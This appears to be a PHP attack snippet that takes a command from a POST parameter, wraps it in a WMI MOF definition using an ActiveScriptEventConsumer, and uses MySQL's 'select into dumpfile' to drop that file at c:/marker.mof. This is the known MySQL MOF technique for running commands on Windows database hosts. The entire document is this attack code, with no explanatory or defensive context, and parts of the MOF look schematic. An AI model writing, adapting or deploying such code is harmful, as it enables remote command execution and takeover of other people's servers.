<?php
$c = $_POST["c"];
$mof = "#pragma namespace(\"\\\\.\\root\\subscription\") instance of __EventFilter as \$f {}; instance of ActiveScriptEventConsumer as \$e { ScriptText = \"run $c\"; };";
mysql_query("select '$mof' into dumpfile 'c:/marker.mof'");
